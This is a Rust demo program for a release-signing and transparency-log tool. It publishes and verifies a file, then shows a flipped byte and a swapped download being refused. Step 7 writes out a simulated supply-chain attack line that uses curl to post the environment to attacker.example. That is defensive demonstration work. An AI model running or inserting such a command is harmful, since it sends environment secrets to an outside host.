//! `cargo quickstart FILE`: the main job on a real file, in one command.
//!
//! A log on the embedded store, keys, a project, a release of FILE published over HTTP,
//! verified offline; then one byte is flipped, and then the served file is swapped as the
//! attacker of 2021 did. Every client step is a process of its own that runs the
//! `countersign` command line as it is shown; the log is the real server on a real socket.
#![forbid(unsafe_code)]

use clap::Parser;
use countersign_server::{Config, Server};
use countersign_tests::Storage;
use std::ffi::OsString;
use std::path::{Path, PathBuf};
use std::process::{Command, ExitCode};

/// Publish a file of yours into a log of your own, verify it, and watch two attacks fail.
#[derive(Parser)]
#[command(name = "cargo quickstart")]
struct Args {
    /// Any file of yours; it is copied, never changed
    file: PathBuf,
    /// Where the log, the keys and the copies go [default: a new temporary directory]
    #[arg(long, value_name = "DIR")]
    data: Option<PathBuf>,
    /// Where the log listens
    #[arg(long, default_value = "127.0.0.1:0", value_name = "ADDR")]
    listen: std::net::SocketAddr,
    /// End after the demonstration and do not go on serving
    #[arg(long)]
    once: bool,
}

const CLIENT: &str = "__countersign";

fn main() -> ExitCode {
    let mut args = std::env::args_os();
    if args.nth(1).is_some_and(|a| a == CLIENT) {
        let line = std::iter::once(OsString::from("countersign")).chain(args);
        let code = countersign::cli::main_from(line);
        return ExitCode::from(u8::try_from(code).unwrap_or(1));
    }
    match demonstrate(&Args::parse()) {
        Ok(()) => ExitCode::SUCCESS,
        Err(why) => {
            eprintln!("quickstart: {why}");
            ExitCode::FAILURE
        }
    }
}

/// What is shown: bold where a terminal can.
fn title(number: u32, text: &str) {
    use std::io::IsTerminal as _;
    let (on, off) = if std::io::stdout().is_terminal() {
        ("\u{1b}[1m", "\u{1b}[0m")
    } else {
        ("", "")
    };
    println!("\n{on}{number}. {text}{off}");
}

struct Room {
    dir: PathBuf,
}

impl Room {
    fn path(&self, name: &str) -> String {
        self.dir.join(name).display().to_string()
    }

    /// Shows and runs a `countersign` command; gives its standard output.
    fn client(&self, args: &[&str], want: i32) -> Result<String, String> {
        println!(
            "   $ countersign {}",
            args.join(" ")
                .replace(&format!("{}/", self.dir.display()), "")
        );
        let me = std::env::current_exe().map_err(|e| e.to_string())?;
        let mut command = Command::new(me);
        command
            .arg(CLIENT)
            .args(args)
            .env_remove("COUNTERSIGN_POLICY")
            .env("COUNTERSIGN_STATE", self.path("client-state.json"));
        let output = command.output().map_err(|e| e.to_string())?;
        let (out, err) = (
            String::from_utf8_lossy(&output.stdout).into_owned(),
            String::from_utf8_lossy(&output.stderr).into_owned(),
        );
        for line in out.lines().chain(err.lines()) {
            println!("     {line}");
        }
        let code = output.status.code().unwrap_or(-1);
        if code == want {
            Ok(out)
        } else {
            Err(format!("exit code {code}, want {want}"))
        }
    }
}

fn demonstrate(args: &Args) -> Result<(), String> {
    let name = args
        .file
        .file_name()
        .and_then(|n| n.to_str())
        .ok_or("FILE has no name")?
        .to_owned();
    if !args.file.is_file() {
        return Err(format!("{}: not a file", args.file.display()));
    }
    let dir = match &args.data {
        Some(dir) => dir.clone(),
        None => tempfile::Builder::new()
            .prefix("countersign-")
            .tempdir()
            .map_err(|e| e.to_string())?
            .keep(),
    };
    std::fs::create_dir_all(&dir).map_err(|e| format!("{}: {e}", dir.display()))?;
    let room = Room {
        dir: dir.canonicalize().map_err(|e| e.to_string())?,
    };
    for sub in ["storage", "downloads"] {
        std::fs::create_dir(room.dir.join(sub))
            .map_err(|e| format!("{}: {e}; give a new --data", room.path(sub)))?;
    }
    let at = |e: std::io::Error| e.to_string();
    println!("countersign quickstart, in {}", room.dir.display());

    title(
        1,
        "A log of your own: one directory, one process, two signing keys",
    );
    let data = room.dir.join("log");
    let vkeys = countersign_server::init(&data, "log.example").map_err(|e| e.to_string())?;
    let mut config = Config::new(&data).open();
    config.listen = args.listen;
    let server = Server::start(&config).map_err(|e| e.to_string())?;
    let log = server.url();
    println!("     serving {log}");
    for vkey in &vkeys {
        println!("     {vkey}");
    }

    title(
        2,
        "Two keys of yours: a root that founds the project, a release key that publishes",
    );
    let (root, release, policy) = (
        room.path("root.key"),
        room.path("release.key"),
        room.path("publisher.toml"),
    );
    room.client(&["keys", "generate", "--unencrypted", "--out", &root], 0)?;
    room.client(&["keys", "generate", "--unencrypted", "--out", &release], 0)?;

    title(
        3,
        "A project, which the log writes down; the trust string is all that others need",
    );
    let mut init = vec![
        "project",
        "init",
        "acme/demo",
        "--root-key",
        &root,
        "--release-key",
        &release,
    ];
    init.extend([
        "--purl-prefix",
        "pkg:generic/acme/demo",
        "--contact",
        "mailto:security@example.com",
    ]);
    init.extend(["--log", &log, "--policy-out", &policy]);
    for vkey in &vkeys {
        init.extend(["--vkey", vkey]);
    }
    let string = room
        .client(&init, 0)?
        .lines()
        .last()
        .unwrap_or_default()
        .to_owned();

    title(
        4,
        "Publish your file: signed, logged, and its bundle written beside it",
    );
    let stored = room.path(&format!("storage/{name}"));
    std::fs::copy(&args.file, &stored).map_err(at)?;
    room.client(
        &[
            "publish",
            &stored,
            "--project",
            "acme/demo",
            "--version",
            "1.0.0",
            "--key",
            &release,
            "--policy",
            &policy,
        ],
        0,
    )?;

    title(
        5,
        "Somebody else, with the trust string alone, verifies it offline",
    );
    let theirs = room.path("theirs.toml");
    room.client(
        &["trust", "init", &string, "--log", &log, "--out", &theirs],
        0,
    )?;
    room.client(&["verify", &stored, "--policy", &theirs], 0)?;

    title(6, "One flipped byte is refused");
    let flipped = room.path(&format!("downloads/{name}"));
    let mut bytes = std::fs::read(&stored).map_err(at)?;
    let middle = bytes.len() / 2;
    match bytes.get_mut(middle) {
        Some(byte) => *byte ^= 1,
        None => bytes.push(b'x'),
    }
    std::fs::write(&flipped, &bytes).map_err(at)?;
    room.client(
        &[
            "verify",
            &flipped,
            "--bundle",
            &format!("{stored}.bundle"),
            "--policy",
            &theirs,
        ],
        1,
    )?;
    std::fs::remove_file(&flipped).map_err(at)?;

    title(
        7,
        "January 2021: an attacker swaps the served file; `get` leaves the destination untouched",
    );
    let storage = Storage::serve(&room.dir.join("storage")).map_err(at)?;
    let url = format!("{}/{}", storage.url, encode(&name));
    let destination = room.path(&format!("downloads/{name}"));
    room.client(
        &[
            "get",
            &url,
            "-o",
            &destination,
            "--name",
            &name,
            "--version",
            "1.0.0",
            "--policy",
            &theirs,
        ],
        0,
    )?;
    let before = std::fs::read(&destination).map_err(at)?;
    let mut evil = before.clone();
    evil.extend_from_slice(b"\ncurl -sm 0.5 -d \"$(env)\" https://attacker.example\n");
    std::fs::write(&stored, &evil).map_err(at)?;
    println!("   (the file in storage now sends the environment to an attacker)");
    room.client(
        &[
            "get",
            &url,
            "-o",
            &destination,
            "--name",
            &name,
            "--version",
            "1.0.0",
            "--policy",
            &theirs,
        ],
        1,
    )?;
    if std::fs::read(&destination).map_err(at)? != before
        || count(&room.dir.join("downloads"))? != 1
    {
        return Err("the destination was touched: this must never happen".into());
    }
    println!("     the destination still holds the genuine file, and nothing else was left there");
    std::fs::write(&stored, &before).map_err(at)?;

    if args.once {
        println!("\nDone. Everything is in {}", room.dir.display());
        drop(storage);
        server.shutdown();
        return Ok(());
    }
    println!("\nThe log goes on serving at {log}; end it with Ctrl-C. Try next:");
    println!("   curl {log}/checkpoint");
    println!("   countersign run {url} --policy {theirs} --version 1.0.0 --with sh --");
    println!(
        "   countersign log proof --log {log} --index 2 --policy {theirs} --out entry.tlog-proof"
    );
    server.signals().map_err(|e| e.to_string())?.wait();
    server.shutdown();
    Ok(())
}

fn count(dir: &Path) -> Result<usize, String> {
    Ok(std::fs::read_dir(dir).map_err(|e| e.to_string())?.count())
}

/// A file name as one URL segment.
fn encode(name: &str) -> String {
    name.bytes()
        .map(|b| match b {
            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'.' | b'-' | b'_' | b'~' => {
                char::from(b).to_string()
            }
            _ => format!("%{b:02X}"),
        })
        .collect()
}
